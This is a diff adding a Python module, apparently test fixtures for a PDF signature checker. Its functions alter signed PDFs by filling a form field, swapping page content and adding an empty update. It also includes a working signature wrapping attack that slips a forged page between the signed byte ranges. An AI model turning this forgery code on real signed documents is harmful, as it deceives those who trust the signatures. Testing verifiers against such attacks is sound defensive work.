@@ -1,0 +1,112 @@
+"""What people and attackers do to a signed PDF afterwards, as functions from bytes to bytes."""
+
+from __future__ import annotations
+
+import re
+from io import BytesIO
+
+from field_pdf import NUMBER
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.pdf_utils.reader import PdfFileReader
+
+
+def with_number_filled(pdf: bytes, number: str = "05") -> bytes:
+    """The clerk fills the field for the number: an incremental update that changes a field's value only."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf))
+    for reference in writer.root["/AcroForm"]["/Fields"]:
+        field = reference.get_object()
+        if field["/T"] == NUMBER:
+            field[generic.pdf_name("/V")] = generic.pdf_string(number)
+            writer.update_container(field)
+    return _written(writer)
+
+
+def with_page_changed(pdf: bytes) -> bytes:
+    """Another text on the page, as an incremental update."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf))
+    page = writer.root["/Pages"]["/Kids"][0].get_object()
+    page[generic.pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED_PAGE))
+    writer.update_container(page)
+    return _written(writer)
+
+
+def with_empty_update(pdf: bytes) -> bytes:
+    """An incremental update that changes nothing."""
+    writer = IncrementalPdfFileWriter(BytesIO(pdf))
+    writer._force_write_when_empty = True
+    return _written(writer)
+
+
+def _written(writer: IncrementalPdfFileWriter) -> bytes:
+    out = BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+FORGED_PAGE = b"BT /F1 12 Tf 72 700 Td (Forged) Tj ET"
+
+
+def byte_range(pdf: bytes) -> tuple[int, int, int, int]:
+    """The last /ByteRange in the file."""
+    numbers = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)[-1]
+    first, length, second, rest = (int(number) for number in numbers)
+    return first, length, second, rest
+
+
+def gap(pdf: bytes) -> range:
+    """Where the last signature's hexadecimal text stands, with its angle brackets."""
+    _, start, end, _ = byte_range(pdf)
+    return range(start, end)
+
+
+def der_length(pdf: bytes) -> int:
+    """How many bytes of the last signature are its DER value; zeros follow."""
+    text = bytes.fromhex(pdf[gap(pdf).start + 1 : gap(pdf).stop - 1].decode())
+    return int.from_bytes(text[2:4], "big") + 4
+
+
+def wrapped(pdf: bytes) -> bytes:
+    """A signature wrapping attack: both signed stretches are kept byte for byte, and a forged page stands between.
+
+    The old end of the file still says where its cross-reference table is; there the attacker writes another one. The
+    signature becomes a literal string, which needs half the room of its hexadecimal text: what is left over makes the
+    lengths of the parts add up to the length of the file, and holds the forged page.
+    """
+    _, start, end, rest = byte_range(pdf)
+    head, tail = pdf[:start], pdf[end:]
+    table_at = int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", tail)[-1])
+    reader = PdfFileReader(BytesIO(pdf))
+    page = reader.root["/Pages"]["/Kids"][0]
+    offsets = {int(found[1]): found.start(1) for found in re.finditer(rb"\n(\d+) 0 obj", head)}
+
+    forged = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n"
+    content = page.raw_get("/Contents").idnum
+    between = (forged % (content, len(FORGED_PAGE), FORGED_PAGE)).ljust(table_at - start)
+    offsets[content] = start + 1
+
+    padded = bytes.fromhex(pdf[start + 1 : end - 1].decode()) + bytes(20_000)
+    room = 2 * len(padded) + 2
+    signature = reader.root["/AcroForm"]["/Fields"][0].raw_get("/V").idnum
+    trailer = b"trailer << /Root 1 0 R /Size %d >>\n" % (max(offsets) + 1)
+    offsets[signature] = table_at + len(_table(offsets)) + len(trailer)
+    between += _table(offsets) + trailer + _signature_object(signature, [0, start, start + room, rest], padded)
+    return head + between.ljust(room) + tail
+
+
+def _table(offsets: dict[int, int]) -> bytes:
+    free = b"0000000000 65535 f \n"
+    rows = [b"%010d 00000 n \n" % offsets[n] if n in offsets else free for n in range(max(offsets) + 1)]
+    return b"xref\n0 %d\n" % len(rows) + b"".join(rows)
+
+
+def _signature_object(number: int, covered: list[int], contents: bytes) -> bytes:
+    literal = re.sub(rb"[()\\\r]", lambda found: b"\\%03o" % found[0][0], contents)
+    return (
+        b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [%s] "
+        % (
+            number,
+            b" ".join(b"%d" % each for each in covered),
+        )
+        + b"/M (D:20261120093000Z) /Contents (%s) >>\nendobj\n" % literal
+    )
